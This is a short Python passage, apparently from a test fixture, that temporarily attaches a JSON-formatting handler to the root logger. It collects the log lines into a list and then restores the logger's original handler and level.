    class Keeping(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            lines.append(self.format(record))

    handler = Keeping()
    handler.setFormatter(JsonFormatter())
    root = logging.getLogger()
    level = root.level
    root.setLevel(logging.INFO)
    root.addHandler(handler)
    try:
        yield lines
    finally:
        root.removeHandler(handler)
        root.setLevel(level)
